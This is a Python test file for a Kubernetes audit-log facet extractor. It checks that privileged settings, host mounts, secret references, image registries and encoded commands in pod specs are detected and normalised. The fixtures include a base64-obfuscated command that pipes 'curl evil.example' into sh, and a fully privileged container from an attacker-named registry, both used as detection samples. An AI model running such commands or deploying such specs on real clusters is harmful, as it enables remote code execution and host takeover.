from __future__ import annotations

from collections.abc import Callable
from typing import Any, Final

import orjson
import pytest

from ingest.facets.pod_spec import normalize_path, pod_spec_facet, registry
from ingest.redact.token import Redactor

Build = Callable[..., dict[str, Any]]
Row = Callable[..., dict[str, Any]]

P: Final = "trailwarden.pod_spec."
KEY: Final = Redactor(b"k")
WORKLOADS: Final = (
    "pods",
    "podtemplates",
    "deployments",
    "replicasets",
    "replicationcontrollers",
    "daemonsets",
    "statefulsets",
    "jobs",
    "cronjobs",
    "rollouts",  # a custom kind, as all that keep a pod spec in spec.template.spec
)
CONTAINERS: Final = ("containers", "initContainers", "ephemeralContainers")


def holding(resource: str, spec: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    """Put a pod spec where a kind of workload keeps it."""
    template = {"metadata": metadata, "spec": spec}
    match resource:
        case "pods":
            return template
        case "podtemplates":
            return {"template": template}
        case "cronjobs":
            return {"spec": {"jobTemplate": {"spec": {"template": template}}}}
        case _:
            return {"spec": {"template": template}}


def facet(spec: dict[str, Any], resource: str = "pods") -> dict[str, Any]:
    found = pod_spec_facet(resource, holding(resource, spec), KEY)
    return {name.removeprefix(P): value for name, value in found.items()}


@pytest.mark.parametrize("kind", CONTAINERS)
@pytest.mark.parametrize("resource", WORKLOADS)
def test_every_workload_and_container_is_looked_into(resource: str, kind: str) -> None:
    """An attacker takes the kind that a rule forgot."""
    container = {
        "name": "x",
        "image": "evil.example.com/x:1",
        "command": ["sh", "-c"],
        "args": ["id"],
        "securityContext": {
            "privileged": True,
            "allowPrivilegeEscalation": True,
            "runAsUser": 0,
            "procMount": "Unmasked",
            "capabilities": {"add": ["SYS_ADMIN"]},
            "seccompProfile": {"type": "Unconfined"},
            "appArmorProfile": {"type": "Unconfined"},
        },
        "env": [{"name": "A", "value": "b"}],
        "envFrom": [{"secretRef": {"name": "creds"}}],
        "ports": [{"hostPort": 80}],
    }
    found = facet({kind: [container]}, resource)
    assert found == {
        "containers": ["x"],
        **({"init_containers": ["x"]} if kind == "initContainers" else {}),
        **({"ephemeral_containers": ["x"]} if kind == "ephemeralContainers" else {}),
        "images": ["evil.example.com/x:1"],
        "image_registries": ["evil.example.com"],
        "repositories": "evil.example.com/x",
        "commands": ["sh -c id"],
        "decoded_commands": ["sh -c id"],
        "privileged": True,
        "capabilities": ["SYS_ADMIN"],
        "allow_privilege_escalation": True,
        "runs_as_root": True,
        "seccomp_unconfined": True,
        "apparmor_unconfined": True,
        "proc_mount_unmasked": True,
        "env_names": ["A"],
        "secret_refs": ["creds"],
        "host_ports": [80],
    }


def test_the_pod_itself_may_be_dangerous() -> None:
    spec = {
        "hostPID": True,
        "hostIPC": True,
        "hostNetwork": True,
        "nodeName": "control-plane",
        "serviceAccountName": "admin",
        "automountServiceAccountToken": False,
        "securityContext": {"runAsUser": 0, "seccompProfile": {"type": "Unconfined"}},
    }
    assert facet(spec) == {
        "host_pid": True,
        "host_ipc": True,
        "host_network": True,
        "node_name": "control-plane",
        "service_account": "admin",
        "automount_token": False,
        "runs_as_root": True,
        "seccomp_unconfined": True,
    }


def test_one_dangerous_container_among_many_counts() -> None:
    harmless = {"name": "a", "securityContext": {"privileged": False}}
    found = facet(
        {
            "containers": [harmless, {"name": "b"}],
            "initContainers": [{"name": "c", "securityContext": {"privileged": True}}],
        }
    )
    assert found["privileged"] is True
    assert found["containers"] == ["a", "b", "c"]
    assert facet({"containers": [harmless]})["privileged"] is False
    assert "privileged" not in facet({"containers": [{"name": "b"}]})


def test_flags_as_words_count() -> None:
    found = facet({"hostPID": "True", "hostIPC": "false", "hostNetwork": "maybe"})
    assert found == {"host_pid": True, "host_ipc": False}


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("SYS_ADMIN", "SYS_ADMIN"),
        ("sys_admin", "SYS_ADMIN"),
        ("CAP_SYS_ADMIN", "SYS_ADMIN"),
        ("cap_sys_admin", "SYS_ADMIN"),
        ("ALL", "ALL"),
        ("all", "ALL"),
    ],
)
def test_capabilities_have_one_spelling(written: str, shown: str) -> None:
    context = {"capabilities": {"add": [written, "NET_RAW"], "drop": ["KILL"]}}
    found = facet({"containers": [{"securityContext": context}]})
    assert found["capabilities"] == sorted({shown, "NET_RAW"})


@pytest.mark.parametrize(
    ("path", "normalized"),
    [
        ("/", "/"),
        ("//", "/"),
        ("///", "/"),
        ("/.", "/"),
        ("/..", "/"),
        ("/etc", "/etc"),
        ("/etc/", "/etc"),
        ("//etc", "/etc"),
        ("/./etc", "/etc"),
        ("/etc/.", "/etc"),
        ("/etc//kubernetes///", "/etc/kubernetes"),
        ("/var/../etc", "/etc"),
        ("/var/lib/../../etc/./kubernetes/", "/etc/kubernetes"),
        ("/../../root", "/root"),
        ("/etc/../root/", "/root"),
        ("relative/path", "relative/path"),
        ("/with space", "/with space"),
    ],
)
def test_a_host_path_has_one_spelling(path: str, normalized: str) -> None:
    assert normalize_path(path) == normalized
    volumes = [{"name": "v", "hostPath": {"path": path}}]
    assert facet({"volumes": volumes})["host_paths"] == [normalized]
    volume = {"spec": {"hostPath": {"path": path}}}
    assert pod_spec_facet("persistentvolumes", volume, KEY) == {f"{P}host_paths": [normalized]}


def test_a_local_volume_is_a_host_path_too() -> None:
    volume = {"spec": {"local": {"path": "/etc/kubernetes/"}}}
    assert pod_spec_facet("persistentvolumes", volume, KEY) == {
        f"{P}host_paths": ["/etc/kubernetes"]
    }
    assert pod_spec_facet("persistentvolumes", {"spec": {"nfs": {"path": "/x"}}}, KEY) == {}


@pytest.mark.parametrize(
    ("mounts", "writable"),
    [
        ([], ["/etc"]),  # not mounted yet: a later patch may
        ([{"name": "v", "readOnly": True}], []),
        ([{"name": "v", "readOnly": False}], ["/etc"]),
        ([{"name": "v"}], ["/etc"]),
        ([{"name": "v", "readOnly": "true"}], ["/etc"]),
        ([{"name": "other", "readOnly": True}], ["/etc"]),
    ],
)
def test_a_host_path_is_writable_unless_every_mount_says_otherwise(
    mounts: list[dict[str, Any]], writable: list[str]
) -> None:
    spec = {
        "volumes": [{"name": "v", "hostPath": {"path": "/etc/"}}],
        "containers": [{"name": "a", "volumeMounts": mounts}],
    }
    assert facet(spec).get("host_paths_writable", []) == writable


def test_one_writable_mount_of_many_counts() -> None:
    spec = {
        "volumes": [{"name": "v", "hostPath": {"path": "/etc"}}],
        "containers": [{"volumeMounts": [{"name": "v", "readOnly": True}]}],
        "initContainers": [{"volumeMounts": [{"name": "v"}]}],
    }
    assert facet(spec)["host_paths_writable"] == ["/etc"]


@pytest.mark.parametrize(
    ("image", "host"),
    [
        ("nginx", "docker.io"),
        ("nginx:1.27", "docker.io"),
        ("library/nginx", "docker.io"),
        ("evil/sysdig/x", "docker.io"),
        ("docker.io/library/nginx", "docker.io"),
        ("index.docker.io/library/nginx", "docker.io"),
        ("quay.io/a/b", "quay.io"),
        ("QUAY.IO/a/b", "quay.io"),
        ("registry:5000/a", "registry:5000"),
        ("localhost/a", "localhost"),
        ("localhost:5000/a", "localhost:5000"),
        ("Registry/a", "registry"),
        ("10.0.0.1/a", "10.0.0.1"),
        ("[::1]:5000/a", "[::1]:5000"),
        ("nginx@sha256:0123", "docker.io"),
        ("a.dkr.ecr.eu-west-1.amazonaws.com/x:1", "a.dkr.ecr.eu-west-1.amazonaws.com"),
        ("gcr.io/p/i@sha256:0123", "gcr.io"),
    ],
)
def test_an_image_names_its_registry(image: str, host: str) -> None:
    assert registry(image) == host
    assert facet({"containers": [{"image": image}]})["image_registries"] == [host]


@pytest.mark.parametrize(
    ("image", "name"),
    [
        ("nginx", "docker.io/library/nginx"),
        ("nginx:1.27", "docker.io/library/nginx"),
        ("index.docker.io/library/nginx:1", "docker.io/library/nginx"),
        ("docker.io/nginx@sha256:0123", "docker.io/library/nginx"),
        ("evil/x:1@sha256:0123", "docker.io/evil/x"),
        ("registry:5000/a", "registry:5000/a"),
        ("registry:5000/a/b:1", "registry:5000/a/b"),
        ("QUAY.IO/a/b", "quay.io/a/b"),
    ],
)
def test_an_image_has_a_repository_whatever_its_tag(image: str, name: str) -> None:
    assert facet({"containers": [{"image": image}]})["repositories"] == name


def test_repositories_are_one_value_in_whatever_order_the_containers_stand() -> None:
    images = [{"image": "b/x:1"}, {"image": "a:2"}, {"image": "b/x:2"}]
    expected = "docker.io/b/x,docker.io/library/a"
    assert facet({"containers": images})["repositories"] == expected
    assert facet({"initContainers": images[::-1]})["repositories"] == expected
    assert "repositories" not in facet({"containers": [{"name": "x"}]})


def test_hooks_and_probes_run_commands_too() -> None:
    def run(*words: str) -> dict[str, Any]:
        return {"exec": {"command": list(words)}}

    container = {
        "command": ["app"],
        "lifecycle": {"postStart": run("sh", "-c", "id"), "preStop": {"sleep": {"seconds": 1}}},
        "livenessProbe": run("cat", "/tmp/x"),  # noqa: S108 - nothing is written
        "readinessProbe": {"httpGet": {"path": "/"}},
    }
    assert facet({"containers": [container]})["commands"] == ["app", "sh -c id", "cat /tmp/x"]


def test_encoded_commands_are_shown_decoded() -> None:
    container = {"command": ["sh", "-c", "echo Y3VybCBldmlsLmV4YW1wbGU= | base64 -d | sh"]}
    (shown,) = facet({"containers": [container]})["decoded_commands"]
    assert "curl evil.example" in shown


def test_credentials_of_commands_are_not_shown_decoded_either() -> None:
    container = {"command": ["redis-cli", "-a", "hunter2hunter2"]}
    found = facet({"containers": [container]})
    assert "hunter2" not in str(found)


def test_secrets_are_found_wherever_a_pod_refers_to_them() -> None:
    spec = {
        "volumes": [{"name": "v", "secret": {"secretName": "one"}}, {"name": "w"}],
        "containers": [
            {
                "envFrom": [{"secretRef": {"name": "two"}}, {"configMapRef": {"name": "no"}}],
                "env": [
                    {"name": "A", "valueFrom": {"secretKeyRef": {"name": "three", "key": "k"}}},
                    {"name": "B", "value": "no"},
                ],
            }
        ],
    }
    assert facet(spec)["secret_refs"] == ["one", "two", "three"]


def test_an_old_apparmor_annotation_counts() -> None:
    body = holding(
        "deployments",
        {"containers": [{"name": "a"}]},
        annotations={"container.apparmor.security.beta.kubernetes.io/a": "unconfined"},
    )
    assert pod_spec_facet("deployments", body, KEY)[f"{P}apparmor_unconfined"] is True


def test_replicas_count_with_and_without_a_template() -> None:
    scale = {"kind": "Scale", "spec": {"replicas": 0}}
    assert pod_spec_facet("deployments", scale, KEY) == {f"{P}replicas": 0}
    body = holding("deployments", {"hostPID": True})
    body["spec"]["replicas"] = 3
    assert pod_spec_facet("deployments", body, KEY) == {f"{P}replicas": 3, f"{P}host_pid": True}
    assert pod_spec_facet("deployments", {"spec": {"replicas": 10**30}}, KEY) == {}


def test_a_scaled_workload_has_its_name(build: Build, row: Row) -> None:
    found = row(
        build(
            verb="patch",
            objectRef={"resource": "deployments", "subresource": "scale", "name": "agent"},
            requestObject={"spec": {"replicas": 0}},
        )
    )
    assert found["event.action"] == "scale"
    assert found[f"{P}replicas"] == 0
    assert (found[f"{P}workload.kind"], found[f"{P}workload.name"]) == ("Deployment", "agent")


@pytest.mark.parametrize("resource", ["configmaps", "services", "nodes", "leases", "widgets"])
def test_what_has_no_pod_spec_has_no_columns(resource: str) -> None:
    assert pod_spec_facet(resource, {"spec": {"containers": [{"image": "x"}]}}, KEY) == {}


def test_the_same_spec_gives_the_same_columns_however_often() -> None:
    """Specs are remembered by their bytes; what came out is not changed by who asked before."""
    body = {"containers": [{"name": "a", "command": ["sh", "--token=hunter2hunter2"]}]}
    one, two = facet(body), facet(body)
    assert one == two
    other = pod_spec_facet("pods", holding("pods", body), Redactor(b"other"))
    assert other[f"{P}commands"] != one["commands"]


def test_a_large_or_deep_spec_is_read_all_the_same() -> None:
    containers = [{"name": f"c{n}", "image": f"i{n}"} for n in range(2_000)]
    assert len(facet({"containers": containers})["images"]) == 2_000
    deep = orjson.loads(b"[" * 900 + b"]" * 900)
    found = facet({"containers": [{"image": "i", "x": deep}], "hostPID": True})
    assert found["images"] == ["i"]
    assert found["host_pid"] is True
